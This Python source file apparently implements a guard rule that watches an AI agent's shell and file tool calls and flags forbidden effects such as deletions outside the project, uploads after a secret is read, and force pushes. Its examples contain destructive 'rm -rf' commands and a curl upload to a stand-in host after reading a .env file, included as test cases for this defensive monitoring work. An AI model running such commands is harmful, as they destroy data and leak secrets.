"""No command does certain things."""

from __future__ import annotations

from collections.abc import Sequence

import msgspec
from pydantic import Field

import stream_guard as sg
from stream_guard_shell.effects import CommandReading, ShellEffect
from stream_guard_shell.patterns import SOFT_REASONS, EffectPattern, PatternFit, is_unclear
from stream_guard_shell.sessions import (
    SessionPaths,
    created_in,
    folders_of,
    forget_attempt,
    note_result,
    place_of,
    read_call,
    remember,
    with_ownership,
    with_purpose,
    with_saved_work,
)

_LONGEST_SHOWN = 200


class NoEffectParams(sg.Params):
    """Parameters of ``no_effect``."""

    effects: list[EffectPattern] = Field(min_length=1, description="what no command may do; one of these is enough")
    after: list[EffectPattern] = Field(
        default_factory=list, description="only counts in or after a command that did one of these"
    )
    tool: sg.ToolPattern = Field(
        default=sg.ToolPattern("*"), description="shells and file tools: a name, a glob, a class, or a list"
    )
    project: str | None = Field(
        default=None, pattern="^/", description="the folder of the session; without it, the first that a call names"
    )
    home: str | None = Field(default=None, pattern="^/", description="the home; without it, the one the folder is in")
    strict: bool = Field(
        default=False,
        description="programs that are not known cannot be judged; without it they are taken for harmless",
    )


class NoEffectState(sg.State):
    """What the session made and fetched, and the attempt that ``after`` waits for."""

    paths: SessionPaths = msgspec.field(default_factory=SessionPaths)
    since: int = -1
    began: bool = False


class NoEffect(sg.Rule[NoEffectParams, NoEffectState]):
    """A command must not have certain effects.

    Shells are read as bash reads them, and file tools do what a command that did the same would do. A command of
    which not everything can be told is unevaluable where what is missing may be what is asked about. The last 96
    paths that the session made or fetched are remembered; what a failed or blocked call would have made is not.
    """

    kind = "no_effect"
    state_limit = 65536
    examples = (
        sg.Example(
            claim="a delete outside the project is a hit, however it is written, unless the session made it",
            params={
                "effects": [{"effect": "delete", "outside": ["project", "/scratch"], "unless": "created_in_session"}],
                "project": "/code/app",
            },
            trace=[
                {"call": "Bash", "args": {"command": "rm -rf build ../lib"}},
                {"call": "Bash", "args": {"command": "git clone https://example.org/r ../r"}},
                {"call": "Bash", "args": {"command": "bash -c 'rm -rf /code/r'"}},
            ],
            hits=[0],
        ),
        sg.Example(
            claim="nothing is sent once a secret was read; before that it may be",
            params={
                "effects": [{"effect": "net", "with": {"direction": "up"}, "without": {"host": "localhost"}}],
                "after": [{"effect": "secret"}],
            },
            trace=[
                {"call": "Bash", "args": {"command": "curl -d @a https://example.org"}},
                {"call": "Read", "args": {"file_path": "/code/.env"}},
                {"call": "Bash", "args": {"command": "curl -d @b https://example.org"}},
            ],
            hits=[2],
        ),
        sg.Example(
            claim="a text about a command is no command, and a push with a lease is not forced",
            params={"effects": [{"effect": "delete"}, {"effect": "git", "with": {"op": "force_push"}}]},
            trace=[
                {"call": "Bash", "args": {"command": "git commit -m 'no rm -rf / any more'"}},
                {"call": "Bash", "args": {"command": "git push --force-with-lease origin fix"}},
            ],
            hits=[],
        ),
    )

    def tools(self) -> sg.ToolPattern:
        """The tools that are read."""
        return self.params.tool

    def needs(self) -> frozenset[sg.Need]:
        """The arguments."""
        return frozenset(("content",))

    def on_tool_call(self, call: sg.ToolCall, state: NoEffectState) -> sg.Verdict:
        """Read the call, and judge what it does."""
        reading = self._read(call, state)
        if reading is None:
            return sg.Unsure("unevaluable", "a command that can be read") if _is_unreadable(call) else None
        effects = self._told(reading, created_in(state.paths))
        self._begin(call, effects, state)
        found = self._worst(effects, reading, state)
        remember(state.paths, call, reading)
        if found is not None and found[0] is PatternFit.YES:
            return _hit(found[1])
        if not state.began and not (reading.opaque and self.params.after):
            return None
        unclear = found is not None or is_unclear(reading, self.params.effects, strict=self.params.strict)
        return sg.Unsure("unevaluable", "what the command does") if unclear else None

    def on_decision(self, decision: sg.GateDecision, state: NoEffectState) -> None:
        """Take back what a refused call would have done."""
        if decision.action in {"block", "terminate_session"}:
            self._take_back(decision.attempt, state)

    def on_tool_result(self, result: sg.ToolResult, state: NoEffectState) -> None:
        """Take back what a failed call would have made."""
        if result.status == "blocked":
            self._take_back(result.attempt, state)
        else:
            note_result(state.paths, result)

    def on_ungated(self, event: sg.Event, state: NoEffectState) -> None:
        """Remember what happens outside the gate too."""
        if isinstance(event, sg.ToolCall):
            reading = self._read(event, state)
            if reading is not None:
                self._begin(event, reading.effects, state)
                remember(state.paths, event, reading)
        elif isinstance(event, sg.GateDecision):
            self.on_decision(event, state)
        elif isinstance(event, sg.ToolResult):
            self.on_tool_result(event, state)

    def _read(self, call: sg.ToolCall, state: NoEffectState) -> CommandReading | None:
        return read_call(call, place_of(call, state.paths, self.params.project, self.params.home))

    def _told(self, reading: CommandReading, created: frozenset[str]) -> tuple[ShellEffect, ...]:
        """Return the effects with what the session and the rest of the command say of them."""
        effects = with_purpose(with_ownership(reading.effects, created), reading.raised_for)
        return with_saved_work(effects, created, drops_older=reading.drops_older)

    def _begin(self, call: sg.ToolCall, effects: Sequence[ShellEffect], state: NoEffectState) -> None:
        """Note the first command that did what ``after`` waits for."""
        if state.began:
            return
        folders = folders_of(state.paths, self.params.home)
        waited = self.params.after
        did = any(pattern.answer(effect, folders) is PatternFit.YES for pattern in waited for effect in effects)
        if did or not waited:
            state.began, state.since = True, call.attempt if waited else -1

    def _take_back(self, attempt: int, state: NoEffectState) -> None:
        forget_attempt(state.paths, attempt)
        if state.since == attempt and attempt >= 0:
            state.began, state.since = False, -1

    def _worst(
        self, effects: Sequence[ShellEffect], reading: CommandReading, state: NoEffectState
    ) -> tuple[PatternFit, ShellEffect] | None:
        """Return the effect that fits best, if one does or may."""
        if not state.began:
            return None
        guesses = bool(reading.opaque & SOFT_REASONS)
        answers = [
            (self._answer(pattern, effect, state.paths, guesses=guesses), effect)
            for effect in effects
            for pattern in self.params.effects
        ]
        best = max(answers, key=lambda one: one[0], default=None)
        return best if best is not None and best[0] is not PatternFit.NO else None

    def _answer(self, pattern: EffectPattern, effect: ShellEffect, paths: SessionPaths, *, guesses: bool) -> PatternFit:
        answer = pattern.answer(effect, folders_of(paths, self.params.home), paths.fetched, guesses=guesses)
        forgotten = pattern.fetched and paths.forgot and effect.kind == pattern.effect and answer is PatternFit.NO
        return PatternFit.UNSAID if forgotten else answer


def _is_unreadable(call: sg.ToolCall) -> bool:
    """Whether a call has arguments that should have been a command or a file."""
    return call.args is None or call.parse_error


def _hit(effect: ShellEffect) -> sg.Hit:
    shown = effect.as_json()
    fields = ", ".join(f"{name} {value}" for name, value in effect.fields if name != "recursive")
    return sg.Hit(
        f"the command has the effect {effect.kind}: {fields}"[:_LONGEST_SHOWN].rstrip(": "), {"effect": shown}
    )
